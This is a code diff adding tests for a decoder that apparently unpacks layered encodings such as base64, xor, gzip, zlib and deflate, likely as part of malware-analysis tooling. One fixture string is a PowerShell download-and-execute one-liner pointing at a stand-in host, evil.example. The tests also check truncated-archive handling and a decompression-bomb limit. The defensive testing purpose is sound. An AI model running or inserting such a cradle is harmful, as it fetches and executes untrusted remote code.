@@ -1,5 +1,5 @@
 import { createHash } from 'node:crypto';
-import { gzipSync } from 'node:zlib';
+import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import decodeLayers from '../../../functions/decode/layers.ts';
 import { noteTxt, packed, runSh } from '../../support/archive-samples.ts';
@@ -9,6 +9,8 @@ import { runIn } from '../../support/run.ts';
 const base64 = (content: string | Buffer): string => Buffer.from(content).toString('base64');
 const decode = async (value: string, options: object = {}) => runIn(decodeLayers, { value, ...options });
 const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
+/** Text that hardly packs. */
+const noise = Array.from({ length: 400 }, (_, number) => createHash('sha256').update(String(number)).digest('hex')).join(' ');
 
 describe('decode-layers', () => {
   it('gives the way in for everything it finds', async () => {
@@ -87,6 +89,20 @@ describe('decode-layers', () => {
     expect((await decode(base64(under), { encoding: 'base64', xorKeys: [0x80, 0x17] })).rows).toMatchObject([
       { Layers: ['xor-0x17'], Text: 'just a note, nothing that tells' },
     ]);
+  });
+
+  it.each([
+    ['gzip', gzipSync(script + script + noise)],
+    ['zlib', deflateSync(script + script + noise)],
+    ['deflate', deflateRawSync(script + script + noise)],
+  ])('keeps the beginning of %s that is cut off, and says so', async (layer, whole) => {
+    const { rows, problems } = await decode(`x ${base64(whole.subarray(0, whole.length / 2))}`);
+    expect(rows.find(({ Layers }) => (Layers as string[]).at(-1) === layer)!['Text']).toContain(script);
+    expect(problems.map(({ code }) => code)).toEqual(['damaged']);
+  });
+
+  it.each([deflateSync, deflateRawSync])('says that what has no name grows too far (%#)', async (pack) => {
+    expect((await decode(base64(pack(Buffer.alloc(20_000_000))))).problems.map(({ code }) => code)).toEqual(['expansion-limit']);
   });
 
   it('opens encrypted archives under passwords, and never shows one', async () => {
